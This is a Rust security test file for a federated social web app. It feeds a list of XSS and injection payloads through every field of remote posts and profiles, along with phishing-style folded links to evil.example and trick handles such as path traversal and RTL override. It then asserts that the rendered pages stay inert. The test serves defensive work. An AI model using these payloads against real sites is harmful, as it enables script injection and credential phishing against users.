//! Group 9: XSS in content, name, summary, url, PropertyValue, emoji, alt, mediaType; RTL override; `invisible` spans.

use super::house::House;
use crate::federation::peers::Ground;
use crate::support::server::visitors_net;
use houselights::cli::demo::browser::Browser;
use scraper::{Html, Node, Selector};
use serde_json::{Value, json};
use url::Url;

/// Each is put wherever somebody elsewhere can put words or an address.
const PAYLOADS: [&str; 22] = [
    "<script>alert(1)</script>",
    "\"><script>alert(1)</script>",
    "'><img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><a xlink:href=\"javascript:alert(1)\">x</a></svg>",
    "<a href=\"javascript:alert(1)\">x</a>",
    "<a href=\"java\nscript:alert(1)\" onclick=alert(1) style=\"position:fixed;inset:0\">x</a>",
    "<a href=\"data:text/html,<script>alert(1)</script>\">x</a>",
    "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
    "<form action=https://evil.example><input name=password><button formaction=//evil.example>Sign in</button></form>",
    "<base href=https://evil.example/><meta http-equiv=refresh content=\"0;url=https://evil.example\">",
    "<style>@import 'https://evil.example/x.css'</style><link rel=stylesheet href=https://evil.example/x.css>",
    "</title></textarea></style></noscript><script>alert(1)</script>",
    "<img src=\"https://evil.example/track.gif\" srcset=\"https://evil.example/t.gif 2x\">",
    "<video poster=https://evil.example/p src=x></video><object data=x></object><embed src=x>",
    "&lt;script&gt;alert(1)&lt;/script&gt;&#60;img src=x onerror=alert(1)&#62;",
    "\u{202E}gpj.exe\u{202C}\u{2066}x\u{2069}&#x202E;",
    "javascript:alert(1)",
    "{{7*7}}${7*7}<%= 7*7 %>",
    "<!--><script>alert(1)</script>--><![CDATA[<script>alert(1)</script>]]>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<p id=\"comments\" class=\"invisible sr-only\" dir=rtl>clobber</p>",
];

/// Fails where a page could do anything but show words and our own pictures.
fn assert_harmless(page: &str, what: &str) {
    let html = Html::parse_document(page);
    for node in html.tree.nodes() {
        match node.value() {
            Node::Text(text) => assert!(!reorders(text), "{what}: words are turned round in {text:?}"),
            Node::Element(element) => {
                let name = element.name();
                let never = [
                    "script", "iframe", "object", "embed", "applet", "base", "math", "video", "audio", "style", "frame",
                ];
                // Linked data is no program: no browser runs it, and nothing in it may end it early.
                if name == "script" && element.attr("type") == Some("application/ld+json") {
                    let data: String = node
                        .children()
                        .filter_map(|child| child.value().as_text().map(|t| t.to_string()))
                        .collect();
                    assert!(
                        serde_json::from_str::<serde_json::Value>(&data).is_ok(),
                        "{what}: {data}"
                    );
                    continue;
                }
                assert!(!never.contains(&name), "{what}: <{name}>");
                for (attribute, value) in element.attrs() {
                    assert!(
                        !attribute.starts_with("on") && attribute != "style",
                        "{what}: {attribute} at <{name}>"
                    );
                    assert!(!reorders(value), "{what}: {attribute}={value:?} is turned round");
                    let loads = name != "a" && matches!(attribute, "src" | "srcset" | "poster" | "background" | "data");
                    assert!(
                        !loads || value.starts_with('/'),
                        "{what}: <{name} {attribute}={value:?}> is loaded from elsewhere"
                    );
                    if matches!(attribute, "href" | "action" | "formaction" | "xlink:href" | "cite") {
                        assert_leads_somewhere_honest(name, attribute, value, what);
                    }
                }
                let refreshes = name == "meta" && element.attr("http-equiv").is_some();
                assert!(!refreshes, "{what}: a meta that does something");
            }
            _ => {}
        }
    }
    assert_folded_links_are_honest(&html, what);
}

fn reorders(text: &str) -> bool {
    text.chars().any(houselights::domain::text::reorders_text)
}

fn assert_leads_somewhere_honest(name: &str, attribute: &str, value: &str, what: &str) {
    let scheme = Url::parse(value).map_or_else(|_| String::new(), |url| url.scheme().to_owned());
    let honest = ["", "http", "https", "mailto"].contains(&scheme.as_str());
    assert!(honest, "{what}: <{name} {attribute}={value:?}>");
    if attribute.ends_with("action") || (name == "link" && !value.contains(".localhost")) {
        assert!(
            value.starts_with('/') && !value.starts_with("//"),
            "{what}: <{name} {attribute}={value:?}>"
        );
    }
}

/// What is folded away inside a link must be part of the address that the link really leads to.
fn assert_folded_links_are_honest(html: &Html, what: &str) {
    let (invisible, link) = (Selector::parse(".invisible").unwrap(), Selector::parse("a").unwrap());
    let folded: usize = html.select(&invisible).count();
    let mut within = 0;
    for link in html.select(&link) {
        let inside = link.select(&invisible).count();
        if inside > 0 {
            within += inside;
            let shown: String = link.text().collect();
            assert_eq!(Some(shown.as_str()), link.attr("href"), "{what}: a folded link lies");
        }
    }
    assert_eq!(within, folded, "{what}: words are hidden outside of links");
}

/// A text of the attacker's that says the payload in every field there is.
fn note(house: &House, payload: &str, in_reply_to: Option<&Url>) -> Value {
    let number = house.next();
    let id = house.eve.at(&format!("/n/{number}"));
    let picture = json!({"type": "Image", "mediaType": payload, "url": format!("{id}/p.png?{payload}"), "name": payload,
        "summary": payload, "blurhash": payload, "width": payload});
    let mut note = json!({
        "id": id, "type": if in_reply_to.is_some() { "Note" } else { "Article" }, "attributedTo": house.eve.id,
        "name": payload, "summary": payload, "content": format!("<p>Number {number}</p>{payload}"),
        "contentMap": {payload: payload}, "url": [{"type": "Link", "mediaType": "text/html", "href": payload}, payload, id],
        "to": [super::house::PUBLIC], "cc": [house.author()], "published": "2026-11-20T10:00:00Z", "sensitive": payload,
        "image": picture, "attachment": [picture, {"type": "Document", "url": payload, "name": payload, "mediaType": payload},
            {"type": "PropertyValue", "name": payload, "value": payload}, {"type": "Link", "href": payload, "name": payload}],
        "tag": [{"type": "Emoji", "name": payload, "icon": {"type": "Image", "url": payload, "mediaType": payload}},
            {"type": "Mention", "href": house.author(), "name": payload}, {"type": "Hashtag", "href": payload, "name": payload},
            {"type": "Link", "href": house.object, "name": payload, "mediaType": payload, "rel": payload}],
        "generator": {"type": "Application", "name": payload, "url": payload},
        "location": {"type": "Place", "name": payload}
    });
    if let Some(parent) = in_reply_to {
        note["inReplyTo"] = json!(parent);
    }
    note
}

fn actor(house: &House, handle: &str, payload: &str) -> Value {
    let id = &house.eve.id;
    json!({"id": id, "type": "Person", "preferredUsername": handle, "name": payload, "summary": payload,
        "url": [{"type": "Link", "mediaType": "text/html", "href": payload}], "inbox": format!("{id}/inbox"),
        "icon": {"type": "Image", "url": format!("{id}/avatar.png?{payload}"), "mediaType": payload, "name": payload},
        "image": payload, "attachment": [{"type": "PropertyValue", "name": payload, "value": payload}],
        "tag": [{"type": "Emoji", "name": payload, "icon": {"url": payload}}], "published": payload,
        "publicKey": {"id": house.eve.key_id(), "owner": id, "publicKeyPem": crate::support::fediverse::public_pem()}})
}

async fn signed_in(house: &House) -> Browser {
    let mut browser = Browser::new(&visitors_net());
    let page = browser
        .open(&house.peer.origin.join("/sign-in").unwrap())
        .await
        .unwrap();
    let form = page
        .form("/sign-in")
        .unwrap()
        .with("handle", "mara")
        .with("password", "password of mara");
    browser.submit(&page, &form, None).await.unwrap();
    browser
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_that_others_write_does_anything_on_any_page() {
    let house = House::build(Ground::any()).await;
    let service = &house.peer.service;
    let eve = service
        .actor_by_uri(&house.eve.id.parse().unwrap())
        .await
        .unwrap()
        .unwrap();
    service.follow(&house.mara, &eve.id).await.unwrap();
    house.settle().await;
    let accept = json!({"id": house.eve.at("/accepts/1"), "type": "Accept", "actor": house.eve.id,
            "object": {"type": "Follow", "actor": house.author(), "object": house.eve.id}});
    assert_eq!(house.send(&house.eve, &accept).await, 202);
    let mut browser = signed_in(&house).await;
    let page_of_review = house.page_path().await;
    let path = |path: &str| house.peer.origin.join(path).unwrap();
    let mut posts = Vec::new();
    for (number, payload) in PAYLOADS.into_iter().enumerate() {
        let document = actor(&house, &format!("eve{number}"), payload);
        house.world.serve_object(&document);
        let post = note(&house, payload, None);
        let mut activities = vec![house.activity(&house.eve, "Update", &document)];
        activities.push(house.activity(&house.eve, "Create", &note(&house, payload, Some(&house.object))));
        activities.push(house.activity(&house.eve, "Create", &post));
        let mut private = note(&house, payload, Some(&house.object));
        private["to"] = json!([house.author()]);
        activities.push(house.activity(&house.eve, "Create", &private));
        activities.last_mut().unwrap()["to"] = json!([house.author()]);
        for activity in &activities {
            assert_eq!(house.send(&house.eve, activity).await, 202, "{payload}");
        }
        posts.push(post["id"].as_str().unwrap().to_owned());
    }
    house.settle().await;
    let page = house.page(&page_of_review).await;
    assert!(page.contains("{{7*7}}"), "no template reads what it shows");
    assert!(
        page.matches("Number ").count() >= PAYLOADS.len(),
        "the answers are on the page:\n{page}"
    );
    assert_harmless(&page, "the review");
    assert_harmless(&house.page("/").await, "the front page");
    for inside in ["/news", "/following", &format!("/people/{}", eve.id), &page_of_review] {
        let page = browser.open(&path(inside)).await.unwrap();
        assert_eq!(page.status, 200, "{inside}");
        assert_harmless(&page.html(), inside);
    }
    let mut shown = 0;
    for id in posts {
        let found = service.resolve(&id.parse().unwrap()).await.unwrap();
        if let Some(houselights::domain::like::Subject::Post(post)) = found.map(|found| found.subject) {
            let page = browser.open(&path(&format!("/elsewhere/{post}"))).await.unwrap();
            assert_eq!(page.status, 200);
            assert_harmless(&page.html(), "a post elsewhere");
            shown += 1;
        }
    }
    assert!(shown >= PAYLOADS.len() / 2, "only {shown} posts were kept");
    // What goes out again holds none of it either.
    let replies = house
        .peer
        .document(&format!("{}/replies?page=1", house.object.path()))
        .await;
    assert!(!replies.to_string().contains("script"), "{replies}");
    assert_eq!(house.trap.touched(), []);
}

#[tokio::test(flavor = "multi_thread")]
async fn handles_with_tricks_are_no_handles_and_folded_links_show_where_they_lead() {
    let house = House::build(Ground::any()).await;
    let fold = |hidden: &str, shown: &str, tail: &str| {
        format!(
            "<a href=\"https://evil.example/login\"><span class=\"invisible\">{hidden}</span><span class=\"ellipsis\">{shown}</span>\
                 <span class=\"invisible\">{tail}</span></a> <span class=\"invisible\">hidden words</span>"
        )
    };
    for html in [
        fold("https://", "bank.example", "@evil.example/login"),
        fold("https://evil.example/", "bank.example", ""),
        fold("", "https://bank.example/", ""),
        "<a class=\"mention u-url\" href=\"https://evil.example/@mara\">@<span>mara</span></a>".to_owned(),
        "<span class=\"h-card invisible\"><a href=\"https://evil.example/\">x</a></span>".to_owned(),
    ] {
        assert_eq!(house.send(&house.eve, &house.reply(&house.eve, &html)).await, 202);
    }
    house.settle().await;
    let page = house.page(&house.page_path().await).await;
    assert_harmless(&page, "folded links");
    assert!(page.contains("hidden words"), "what is hidden elsewhere is read here");

    let before = house.snapshot();
    for handle in [
        "mara\u{202E}",
        "<script>alert(1)</script>",
        "../mara",
        "eve/../mara",
        "mara@films.example",
        "eve mara",
        "eve\nmara",
        "",
        "%2e%2e",
        "javascript:x",
    ] {
        house.world.serve_object(&actor(&house, handle, "Eve"));
        let update = house.activity(&house.eve, "Update", &actor(&house, handle, "Eve"));
        assert_eq!(house.send(&house.eve, &update).await, 202, "{handle:?}");
        house.settle().await;
        assert_eq!(
            house.outcome(update["id"].as_str().unwrap()),
            "ignored: actor cannot be read",
            "{handle:?}"
        );
    }
    house.assert_untouched(&before, "a handle with tricks");
}
